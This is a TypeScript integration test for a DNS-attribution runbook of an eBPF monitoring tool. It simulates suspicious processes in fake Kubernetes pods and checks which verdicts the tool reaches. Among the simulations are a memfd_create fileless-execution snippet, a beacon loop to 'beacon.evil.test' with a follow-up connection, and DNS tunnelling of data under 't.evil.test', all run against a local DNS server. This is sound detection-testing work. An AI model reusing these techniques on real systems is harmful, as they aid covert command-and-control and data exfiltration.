/**
 * `bpfdesk runbook dns-attribution` on this kernel, behind a real OpenSSH server: programs in cgroups of pods ask a DNS
 * server of ours all the while, some as malware does and some as it must not be taken for; what the server wrote down
 * and what was started is what the verdicts are compared with.
 */
import * as fs from "node:fs";
import * as path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { ExportedRun } from "../../electron/core/runbook/export.ts";
import { type Cli, makeCli } from "../support/cli.ts";
import { cgroup2Mount, type DnsLab, startDnsLab } from "../support/dns-lab.ts";
import { startSshd, type TestSshd } from "../support/sshd.ts";
import { tracerBinary } from "../support/tracer.ts";
import { until } from "./node/exec.ts";

const FILES = path.resolve(import.meta.dirname, "../kernels/files");
const NAMES = path.join(FILES, "dns_names.py");
const FOLDER = `bpfdesk-dns-attribution-${process.pid}`;
const UID = (pod: number) => `3f1b2c3d-0000-4000-8000-00000000000${pod}`;
/** By the letter its id is made of. */
const CONTAINERS = { web: [1, "a"], sidecar: [1, "b"], batch: [2, "c"], tunnel: [3, "d"], resolver: [4, "e"] } as const;
type ContainerName = keyof typeof CONTAINERS;
type Verdict = ExportedRun["verdicts"][number];

let lab: DnsLab;
let sshd: TestSshd;
let cli: Cli;
let run: ExportedRun;
let byName: ExportedRun;
const pids = new Map<string, number>();

const cgroupOf = (name: ContainerName) => {
  const [pod, letter] = CONTAINERS[name];
  const slice = `kubepods-burstable-pod${UID(pod).replaceAll("-", "_")}.slice`;
  return `${FOLDER}/${slice}/cri-containerd-${letter.repeat(64)}.scope`;
};
const idOf = (name: ContainerName) => CONTAINERS[name][1].repeat(12);

function start(what: string, container: ContainerName, command: readonly string[]): void {
  const child = lab.start(command, path.join(cgroup2Mount(), cgroupOf(container)));
  pids.set(what, child.pid ?? 0);
}

async function runbook(inputs: Record<string, string>): Promise<ExportedRun> {
  // Other things run on this machine, too.
  const given = Object.entries({ budget: "50", ...inputs }).flatMap(([name, value]) => ["--input", `${name}=${value}`]);
  const login = ["--identity", sshd.keyFile, "--known-hosts", sshd.knownHosts];
  const target = `root@127.0.0.1:${sshd.port}`;
  const ran = await cli.run(["runbook", "dns-attribution", target, ...given, "--json", ...login]);
  expect(ran.code, ran.stderr).toBe(1);
  return JSON.parse(ran.stdout) as ExportedRun;
}

const textOf = (verdict: Verdict | undefined) =>
  verdict === undefined ? "" : [...verdict.evidence.map(({ text }) => text), verdict.meaning].join("\n");
/** Verdicts about who was started in that container. */
const about = (of: ExportedRun, container: ContainerName) =>
  of.verdicts.filter(({ subject }) => subject.includes(`container ${idOf(container)} of pod`));
const kinds = (verdicts: readonly Verdict[]) => verdicts.map(({ kind, verdict }) => `${kind} ${verdict}`).sort();

/** Whether all that was asked was seen, which a machine that is busy with something else cannot promise. */
const sureOf = (of: ExportedRun) =>
  /lost|budget/.test(of.verdicts.find(({ kind }) => kind === "overview")?.meaning ?? "") ? "likely" : "confirmed";

/** Runs Python's own binary from memory, which then asks. */
const FROM_MEMORY = `
import os, shutil, sys
memory = os.memfd_create("payload")
with open(sys.executable, "rb") as binary, os.fdopen(os.dup(memory), "wb") as copy: shutil.copyfileobj(binary, copy)
os.execve(memory, ["payload", *sys.argv[1:]], {**os.environ, "PYTHONHOME": sys.prefix})`;
/** What a C library asks for a name with five dots wanted and four domains in its search list. */
const RESOLVES = `
import socket, time
number = 0
while True:
    socket.getaddrinfo(f"api{number}.example.test", 80)
    number += 1
    time.sleep(0.1)`;

beforeAll(async () => {
  const search = ["shop.svc.cluster.local", "svc.cluster.local", "cluster.local"];
  // First what may fail before anything runs.
  [cli] = await Promise.all([makeCli(), tracerBinary()]);
  sshd = await startSshd();
  lab = await startDnsLab([`search ${search.join(" ")}`, "options ndots:5"]);
  for (const name of Object.keys(CONTAINERS) as ContainerName[]) {
    fs.mkdirSync(path.join(cgroup2Mount(), cgroupOf(name)), { recursive: true });
  }
  // Answers lead here: connections are tried, and refused.
  expect((await lab.ask(["ip", "address", "add", "10.1.2.3/32", "dev", "lo"])).code).toBe(0);
  const names = (...words: string[]) => ["python3", NAMES, ...words];
  // The application, a program from memory beside it, and a sidecar that starts a process for each query.
  start("web", "web", ["python3", "-c", RESOLVES]);
  start("memory", "web", [
    "python3",
    "-c",
    FROM_MEMORY,
    NAMES,
    "127.0.0.1",
    "svc-mem{few}.shop.svc.cluster.local",
    "0",
    "4",
  ]);
  const loop = `while kill -0 "$PPID"; do python3 "$0" 127.0.0.1 beacon.evil.test 1 10 connect=443 < /dev/null; sleep 0.3; done`;
  start("sidecar", "sidecar", ["sh", "-c", loop, NAMES]);
  start("batch", "batch", names("127.0.0.1", "svc{few}.shop.svc.cluster.local", "0", "150"));
  start("tunnel", "tunnel", names("127.0.0.1", "{data}.t.evil.test", "0", "10", "tcp"));
  start("resolver", "resolver", ["python3", path.join(FILES, "dns_forward.py"), "127.0.0.2", "127.0.0.1", "coredns"]);
  start("asks-another", "tunnel", names("127.0.0.2", "svc-forwarded.shop.svc.cluster.local", "0", "4"));
  const asked = (name: RegExp) => lab.log.some((one) => name.test(one.name ?? ""));
  const all = [/^api/, /^svc-mem/, /^beacon/, /^svc\d/, /\.t\.evil/, /^svc-forwarded/];
  if (!(await until(() => all.every(asked), 60_000))) throw new Error("Not all of them ask.");
  [run, byName] = await Promise.all([runbook({ seconds: "6" }), runbook({ name: "beacon.evil.test", seconds: "5" })]);
});

afterAll(async () => {
  await lab?.stop();
  await sshd?.stop();
  cli?.remove();
  const folder = path.join(cgroup2Mount(), FOLDER);
  if (!fs.existsSync(folder)) return;
  const below = fs.readdirSync(folder, { recursive: true, withFileTypes: true }).filter((one) => one.isDirectory());
  for (const one of below
    .map(({ parentPath, name }) => path.join(parentPath, name))
    .sort()
    .reverse())
    fs.rmdirSync(one);
  fs.rmdirSync(folder);
});

describe("dns-attribution", () => {
  it("names the sidecar that asks for a name, by processes that are gone at once, and the connection that followed", () => {
    const askers = byName.verdicts.filter(({ kind }) => kind === "asker");
    expect(askers.length).toBeGreaterThan(0);
    expect(about(byName, "sidecar")).toEqual(askers);
    for (const verdict of askers) {
      expect(verdict).toMatchObject({ verdict: sureOf(byName) });
      expect(textOf(verdict)).toMatch(
        /^beacon\.evil\.test: A ×\d+; NOERROR ×\d+; answers 10\.1\.2\.3; asked of 127\.0\.0\.1 over udp/,
      );
      expect(textOf(verdict)).toContain("beacon.evil.test: then connected to 10.1.2.3:443");
      // Its parent, or the first process of its container where it was gone too soon for that to be known.
      expect(textOf(verdict)).toMatch(new RegExp(`pid ${pids.get("sidecar")}[: ]+sh -c "while kill`));
    }
    expect(kinds(byName.verdicts)).not.toContain("nobody-asked cannot_tell");
  });

  it("names everybody who asks by the process that was started, and no name that was not asked", () => {
    const asked = new Set(lab.log.map(({ name }) => name));
    for (const [what, container] of [
      ["web", "web"],
      ["memory", "web"],
      ["batch", "batch"],
      ["tunnel", "tunnel"],
      ["asks-another", "tunnel"],
    ] as const) {
      const [verdict, ...others] = about(run, container).filter(
        ({ kind, subject }) => kind === "asker" && subject.includes(`(pid ${pids.get(what)})`),
      );
      expect({ what, others, verdict: verdict?.verdict }).toEqual({ what, others: [], verdict: sureOf(run) });
      expect(textOf(verdict)).toContain(`pid ${pids.get(what)} `);
      for (const [, name = ""] of textOf(verdict).matchAll(/^(\S+\.test|\S+\.local): A/gm))
        expect(asked).toContain(name);
    }
  });

  it("does not take a resolver of the node for who asks, whatever it is called", () => {
    expect(kinds(about(run, "resolver"))).toEqual(["forwarder ruled_out"]);
    const [forwarder] = about(run, "resolver");
    expect(forwarder?.subject).toContain(`[coredns] (pid ${pids.get("resolver")})`);
    expect(textOf(forwarder)).toMatch(
      new RegExp(`^asked by python3\\S* \\(pid ${pids.get("asks-another")}, pod ${UID(3)}\\)`, "m"),
    );
  });

  it("confirms what is a fact: another resolver than resolv.conf names, and a binary that is on no disk", () => {
    const of = (kind: string) =>
      run.verdicts.filter((one) => one.kind === kind && one.subject.includes(UID(1).slice(0, -1)));
    expect(
      of("other-resolver").map(({ verdict, subject }) => [
        verdict,
        subject.includes(`pid ${pids.get("asks-another")}`),
      ]),
    ).toEqual([["confirmed", true]]);
    expect(textOf(of("other-resolver")[0])).toContain("configured: 127.0.0.1 (resolv.conf of its container)");
    expect(
      of("no-binary-on-disk").map(({ verdict, subject }) => [verdict, subject.includes(`pid ${pids.get("memory")}`)]),
    ).toEqual([["confirmed", true]]);
  });

  it("holds data in names over TCP for likely, and nothing for confirmed that only looks hostile", () => {
    const tunnel = run.verdicts.filter(({ kind }) => kind === "tunnelling");
    expect(tunnel).toMatchObject([{ verdict: "likely" }]);
    expect(textOf(tunnel[0])).toContain("under t.evil.test (threshold 20)");
    expect(tunnel[0]?.subject).toContain(`pid ${pids.get("tunnel")}`);
    const confirmed = run.verdicts.filter(({ verdict }) => verdict === "confirmed").map(({ kind }) => kind);
    expect([...new Set(confirmed)].filter((kind) => kind !== "asker" && kind !== "overview").sort()).toEqual([
      "no-binary-on-disk",
      "other-resolver",
    ]);
  });

  it("is not deceived by a batch job's many queries, nor by what glibc makes of names with ndots:5", () => {
    for (const what of ["batch", "web"] as const) {
      const own = run.verdicts.filter(({ subject }) => subject.includes(`(pid ${pids.get(what)})`));
      // How fast they get depends on the machine.
      expect(kinds(own).filter((one) => one !== "high-rate ruled_out")).toEqual([`asker ${sureOf(run)}`]);
    }
  });
});
